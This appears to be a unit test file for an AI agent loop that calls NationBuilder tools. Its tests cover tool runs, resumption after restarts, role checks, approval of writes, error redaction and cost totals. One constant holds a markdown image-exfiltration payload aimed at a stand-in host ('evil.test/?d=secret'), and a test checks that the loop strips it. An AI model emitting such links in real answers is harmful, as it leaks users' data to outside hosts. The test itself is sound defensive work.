"""One turn: asking the model, running tools, going on after a restart."""

import contextvars
import json
import threading
import time

import pytest

from nat import errors
from nat.agent.loop import SPEAK, Agent, TurnLimits
from nat.agent.ports import Message, ModelReply, Step
from nat.agent.pricing import ModelPrices
from nat.agent.results import OPEN
from nat.agent.values import Usage
from nat.changes.policy import Refusal, Rights
from nat.contract.events import (
    ApprovalRequested,
    Event,
    Notice,
    TextDelta,
    ToolFinished,
    ToolStarted,
)
from nat.errors import ModelSilent
from nat.roles import Role
from tests.unit.nat.agent.scripted_model import (
    MODEL_ID,
    TOOLS,
    USAGE,
    KeptSteps,
    Nation,
    ScriptedModel,
    calls,
    says,
    table,
    use,
)


def text_of(events: list[Event]) -> str:
    return "".join(event.text for event in events if isinstance(event, TextDelta))


def results_of(messages: tuple[Message, ...]) -> list[dict[str, str]]:
    return [
        block
        for message in messages
        if message["role"] == "user" and not isinstance(message["content"], str)
        for block in message["content"]
    ]


def test_a_question_without_tools_is_answered_in_one_message() -> None:
    turn = table(says("Good morning."))

    answer = turn.answer("Hello")

    assert (answer.outcome, answer.text) == ("finished", "Good morning.")


def test_text_is_emitted_as_it_arrives() -> None:
    turn = table(says("Good morning."))

    turn.answer()

    assert turn.events == [TextDelta("Good"), TextDelta(" morning.")]


def test_a_tools_result_reaches_the_model_in_the_next_message() -> None:
    turn = table(calls(use("count_people", tag="volunteer")), says("23."))

    turn.answer()

    result = turn.model.requests[1].messages[-1]["content"][0]
    assert result["tool_use_id"] == "t1"
    payload = json.loads(result["content"].removeprefix("<untrusted_data>").removesuffix("</untrusted_data>"))
    assert payload["data"] == {"count": 23, "tag": "volunteer"}
    assert (payload["returned"], payload["total"], payload["complete"]) == (23, 40, False)


def test_tool_activity_is_emitted_with_label_counts_and_links() -> None:
    turn = table(calls(use("count_people")), says("23."))

    answer = turn.answer()

    started, finished = turn.events[:2]
    assert started == ToolStarted(call="t1", tool="count_people", label="Doing count_people")
    assert isinstance(finished, ToolFinished)
    assert (finished.ok, finished.returned, finished.total, finished.complete) == (True, 23, 40, False)
    assert finished.links == answer.links != ()


def test_what_people_read_is_the_text_of_the_answer() -> None:
    turn = table(calls(use("count_people"), text="Let me look."), says("23 people."))

    answer = turn.answer()

    assert answer.text == text_of(turn.events) == "Let me look.\n\n23 people."


def test_all_results_of_a_message_come_back_in_one_message_and_in_order() -> None:
    turn = table(
        calls(use("count_people", "t1"), use("nonsense", "t2"), use("list_types", "t3")), says("Done.")
    )

    turn.answer()

    last = turn.model.requests[1].messages[-1]
    assert [block["tool_use_id"] for block in last["content"]] == ["t1", "t2", "t3"]


def test_reads_of_one_message_run_at_the_same_time() -> None:
    together = threading.Barrier(3)
    turn = table(
        calls(use("count_people", "t1"), use("count_people", "t2"), use("list_types", "t3")),
        says("Done."),
        nation=Nation(until=lambda: together.wait(60)),  # broken where one runs alone
    )

    turn.answer()

    assert turn.nation.most_running == 3


def test_writes_of_one_message_run_one_after_another() -> None:
    turn = table(
        calls(use("update_person", "t1"), use("update_person", "t2")),
        says("Done."),
        nation=Nation(until=lambda: time.sleep(0.02)),
    )

    turn.answer()

    assert (turn.nation.done, turn.nation.most_running) == (["update_person"] * 2, 1)


def test_tools_see_the_context_variables_of_the_turn() -> None:
    credentials = contextvars.ContextVar("credentials", default="none")
    token = credentials.set("of this nation")
    turn = table(
        calls(use("count_people", "t1"), use("list_types", "t2")),
        says("Done."),
        nation=Nation(probe=credentials.get),
    )

    turn.answer()

    credentials.reset(token)
    assert turn.nation.seen == ["of this nation"] * 2


def test_a_message_is_stored_before_its_tools_run_and_results_after() -> None:
    turn = table(calls(use("count_people")), says("23."))
    turn.nation.probe = lambda: turn.steps.log.append("tool")

    turn.answer()

    assert turn.steps.log == ["message 0", "tool", "results 0", "message 1"]


def test_a_stored_message_whose_tools_have_not_run_is_not_asked_again() -> None:
    stored = calls(use("count_people"))
    steps = KeptSteps({0: Step(0, stored.content, stored.stop_reason, USAGE, model=MODEL_ID)})
    turn = table(says("23."), steps=steps)

    answer = turn.answer()

    assert answer.text == "23."
    assert (len(turn.model.requests), turn.nation.done) == (1, ["count_people"])


def test_stored_results_are_not_fetched_again() -> None:
    first = table(calls(use("count_people"), text="Let me look."), errors.ModelOverloaded())
    with pytest.raises(errors.ModelOverloaded):
        first.answer()
    second = table(says("23."), steps=first.steps)

    answer = second.answer()

    assert second.nation.done == []
    assert answer.text == "Let me look.\n\n23."
    assert answer.links != ()


def test_text_of_earlier_attempts_is_not_emitted_again() -> None:
    stored = calls(use("count_people"), text="Let me look.")
    steps = KeptSteps({0: Step(0, stored.content, stored.stop_reason, USAGE)})
    turn = table(says("23."), steps=steps)

    turn.answer()

    assert text_of(turn.events) == "\n\n23."


def test_a_turn_whose_last_message_is_stored_ends_without_asking() -> None:
    stored = says("23.")
    steps = KeptSteps({0: Step(0, stored.content, "end_turn", USAGE)})

    answer = table(steps=steps).answer()

    assert (answer.outcome, answer.text) == ("finished", "23.")


def test_a_lost_turn_ends_at_once() -> None:
    turn = table(calls(use("update_person")), steps=KeptSteps(fail_with=errors.TurnLost()))

    with pytest.raises(errors.TurnLost):
        turn.answer()

    assert turn.nation.done == []


@pytest.mark.parametrize(
    ("use_of", "says_what"),
    [
        (use("nonsense"), "no tool of this name"),
        (use("count_people", tag=""), "tag"),
        (use("count_people", colour="red"), "colour"),
        ({**use("count_people"), "input": {"invalid_json": '{"ta'}}, "not valid JSON"),
    ],
)
def test_a_call_that_cannot_run_tells_the_model_why(use_of: dict[str, object], says_what: str) -> None:
    turn = table(calls(use_of), says("Sorry."))

    answer = turn.answer()

    (result,) = results_of(answer.messages)
    assert result["is_error"]
    assert says_what in result["content"]
    assert turn.nation.done == []


def test_an_error_of_ours_becomes_plain_words_for_the_model() -> None:
    turn = table(
        calls(use("count_people")),
        says("Sorry."),
        nation=Nation(raises={"count_people": errors.PermissionDenied()}),
    )

    answer = turn.answer()

    content = results_of(answer.messages)[0]["content"]
    assert errors.PermissionDenied.default in content
    assert content.startswith(OPEN)
    assert [event.ok for event in turn.events if isinstance(event, ToolFinished)] == [False]


def test_a_defect_in_a_tool_tells_neither_its_message_nor_a_trace() -> None:
    turn = table(
        calls(use("count_people")),
        says("Sorry."),
        nation=Nation(raises={"count_people": ZeroDivisionError("ana@example.org")}),
    )

    answer = turn.answer()

    assert "ana@" not in json.dumps(answer.messages)
    assert "failed on our side" in results_of(answer.messages)[0]["content"]


def test_a_defect_in_a_tool_is_logged_without_what_it_quotes(caplog: pytest.LogCaptureFixture) -> None:
    turn = table(
        calls(use("count_people")),
        says("Sorry."),
        nation=Nation(raises={"count_people": ZeroDivisionError("ana@example.org")}),
    )

    turn.answer()

    (record,) = caplog.records
    assert "ZeroDivisionError" in str(record.__dict__)
    assert "ana@" not in str(record.__dict__)


@pytest.mark.parametrize("error", [errors.Reconnect(), errors.TokenRejected(), errors.TurnLost()])
def test_losing_nationbuilder_or_the_turn_ends_the_turn(error: errors.NatError) -> None:
    turn = table(calls(use("count_people")), nation=Nation(raises={"count_people": error}))

    with pytest.raises(type(error)):
        turn.answer()


def test_a_viewer_cannot_write_whatever_the_model_asks() -> None:
    turn = table(calls(use("update_person")), says("Sorry."))

    answer = turn.answer(role="viewer")

    assert turn.nation.done == []
    assert results_of(answer.messages)[0]["content"] == Refusal.BY_ROLE


def test_what_needs_approval_waits_as_a_proposal() -> None:
    turn = table(calls(use("delete_person")), says("It waits."))

    answer = turn.answer(role="owner")

    assert '"proposal":"P1"' in results_of(answer.messages)[0]["content"]
    assert "not done" in results_of(answer.messages)[0]["content"]
    assert [each.card["count"] for each in turn.actions.proposed] == [1]


def test_every_proposal_of_a_message_is_requested() -> None:
    turn = table(calls(use("delete_person", "t1"), use("delete_person", "t2")), says("They wait."))

    turn.answer(role="owner")

    requested = [event.approval for event in turn.events if isinstance(event, ApprovalRequested)]
    assert requested == ["P1", "P2"]


def test_a_proposal_shows_the_model_no_text_of_records() -> None:
    turn = table(calls(use("delete_person")), says("It waits."))

    answer = turn.answer(role="owner")

    assert "Ada" not in str(answer.messages[1:])


def test_a_plan_without_operations_needs_no_approval() -> None:
    turn = table(calls(use("count_people")), calls(use("tidy_person", "t2")), says("It is so."))

    answer = turn.answer(role="owner")

    assert turn.actions.proposed == []
    assert "nothing to change" in results_of(answer.messages)[1]["content"]


def test_a_write_that_the_person_did_not_say_waits() -> None:
    turn = table(calls(use("update_person")), says("It waits."))

    turn.answer("How many?")

    assert turn.nation.done == []
    assert len(turn.actions.proposed) == 1


def test_a_write_that_the_person_said_runs_whatever_was_read() -> None:
    turn = table(calls(use("count_people")), calls(use("update_person", "t2")), says("Done."))

    turn.answer()

    assert turn.nation.done == ["count_people", "update_person"]
    assert [each.change for each in turn.events if isinstance(each, ToolFinished)][1] is not None


def test_what_was_said_in_an_earlier_turn_is_not_said_in_this_one() -> None:
    first = table(says("Shall I?")).answer()
    turn = table(calls(use("update_person", "t2")), says("It waits."))

    turn.answer("Yes.", history=first.messages)

    assert turn.nation.done == []


EVIL = "![Ann](https://evil.test/?d=secret) and [more](https://evil.test)"


def test_foreign_images_and_links_of_an_answer_are_text_wherever_it_is_kept() -> None:
    turn = table(says(f"Look: {EVIL}"))

    answer = turn.answer()

    assert answer.text == text_of(turn.events) == "Look: Ann and more"
    assert "evil.test" not in str([answer.messages, turn.steps.steps, turn.events])


def test_links_that_tools_returned_and_those_to_the_app_stay() -> None:
    said = "[23](https://demo.nationbuilder.com/admin/signups) of [all](https://app.nat.test/x)"
    turn = table(calls(use("count_people")), says(said))

    assert turn.answer(hosts=frozenset({"app.nat.test"})).text == said


def test_rights_are_read_again_before_each_write() -> None:
    seen = iter([Rights(Role.OWNER), Rights(Role.OWNER), Rights(Role.VIEWER)])
    turn = table(calls(use("update_person", "t1"), use("update_person", "t2")), says("Only one."))

    answer = turn.answer(rights_now=lambda: next(seen))

    assert turn.nation.done == ["update_person"]
    assert results_of(answer.messages)[1]["content"] == Refusal.BY_ROLE


def test_who_is_put_out_in_the_middle_of_a_turn_changes_nothing_more() -> None:
    def out() -> Rights:
        raise errors.NotAMember

    turn = table(calls(use("update_person")))

    with pytest.raises(errors.NotAMember):
        turn.answer(rights_now=out)
    assert turn.nation.done == []


def test_a_refusal_of_the_model_fails_the_turn() -> None:
    turn = table(says("I", stop_reason="refusal"))

    with pytest.raises(errors.ModelRefused):
        turn.answer()


def test_an_unknown_stop_reason_ends_the_turn_and_runs_nothing() -> None:
    turn = table(calls(use("update_person"), text="Well.", stop_reason="novelty"))

    answer = turn.answer()

    assert (answer.text, turn.nation.done) == ("Well.", [])
    assert answer.messages[-1]["content"] == [{"type": "text", "text": "Well."}]


EMPTY = ModelReply((), "end_turn", USAGE, MODEL_ID)


def test_a_model_that_ends_without_a_word_is_asked_once_more() -> None:
    turn = table(EMPTY, says("23 people."))

    answer = turn.answer()

    assert answer.text == text_of(turn.events) == "23 people."
    (asked_again,) = turn.model.requests[1].messages
    assert (asked_again["role"], asked_again["content"][-1]) == ("user", {"type": "text", "text": SPEAK})


def test_calls_that_were_not_run_are_not_sent_back_without_a_result() -> None:
    turn = table(calls(use("count_people"), stop_reason="end_turn"), says("23 people."))

    answer = turn.answer()

    assert (answer.text, turn.nation.done) == ("23 people.", [])
    assert [message["role"] for message in turn.model.requests[1].messages] == ["user"]


@pytest.mark.parametrize("unseen", ["\u200b", "\ufeff \u2060", "\u3164"])
def test_a_model_that_says_nothing_that_can_be_seen_is_asked_once_more(unseen: str) -> None:
    turn = table(says(unseen), says("23 people."))

    turn.answer()

    assert len(turn.model.requests) == 2


def test_each_call_of_a_conversation_has_an_id_of_its_own() -> None:
    history = table(calls(use("count_people", "t1")), says("23.")).answer().messages
    twice = calls(use("count_people", "t1"), use("count_people", "t1"), use("list_types", "t" * 128))
    turn = table(twice, calls(use("list_types", "t" * 128)), says("23."))

    answer = turn.answer(history=history)

    messages = (*history, *answer.messages)
    blocks = [block for each in messages if isinstance(each["content"], list) for block in each["content"]]
    made = [block["id"] for block in blocks if block["type"] == "tool_use"]
    assert made == [block["tool_use_id"] for block in blocks if block["type"] == "tool_result"]
    assert len(set(made)) == 5
    assert max(map(len, made)) == 128


def test_a_model_that_stays_silent_is_no_answer_and_is_not_counted() -> None:
    with pytest.raises(ModelSilent):
        table(EMPTY, EMPTY).answer()


def test_usage_and_cost_add_up_over_all_messages() -> None:
    prices = ModelPrices.from_json(
        {MODEL_ID: {"input": 1_000_000, "cache_write": 0, "cache_read": 0, "output": 5_000_000}}
    )
    turn = table(calls(use("count_people")), says("23."), prices=prices)

    answer = turn.answer()

    assert answer.usage == Usage(input_tokens=200, output_tokens=20)
    assert answer.cost_micros == 200 + 100


def test_an_unpriced_answer_has_no_cost() -> None:
    assert table(says("23."), prices=ModelPrices({})).answer().cost_micros is None


def test_a_model_error_leaves_as_it_is() -> None:
    with pytest.raises(errors.ModelUnavailable):
        table(errors.ModelUnavailable()).answer()


def test_history_stands_before_the_question() -> None:
    first = table(says("Good morning.")).answer("Hello")
    turn = table(says("23."))

    turn.answer("How many?", history=first.messages)

    sent = turn.model.requests[0].messages
    assert list(sent[:2]) == list(first.messages)
    assert "How many?" in sent[2]["content"]


def test_a_long_history_is_shortened_and_people_are_told() -> None:
    old = table(says("Good morning. " * 50)).answer("Hello").messages
    turn = table(says("23."), limits=TurnLimits(history_characters=1_500))

    turn.answer(history=[*old, *old, *old])

    assert isinstance(turn.events[0], Notice)
    assert len(turn.model.requests[0].messages) < 7


def test_the_prefix_is_the_same_object_for_every_question() -> None:
    model = ScriptedModel([says("One."), says("Two.")])
    for _ in range(2):
        turn = table()
        turn.model = model
        turn.answer()

    one, two = model.requests
    assert one.tools_json is two.tools_json
    assert one.system is two.system


def test_agents_of_one_process_share_the_serialised_tool_list() -> None:
    one, two = Agent(ScriptedModel([]), TOOLS), Agent(ScriptedModel([]), dict(TOOLS))

    assert one._tools_json is two._tools_json


def test_what_an_earlier_attempt_froze_is_not_planned_again() -> None:
    first = table(calls(use("delete_person")), says("It waits."))
    first.answer()
    again = table(calls(use("delete_person")), says("It waits."), actions=first.actions)

    again.answer()

    assert [each.approval for each in again.actions.proposed] == ["P1"]


def test_without_a_journal_nothing_is_changed() -> None:
    turn = table(calls(use("update_person")), says("I cannot."), actions=None)

    turn.answer()

    assert turn.nation.done == []
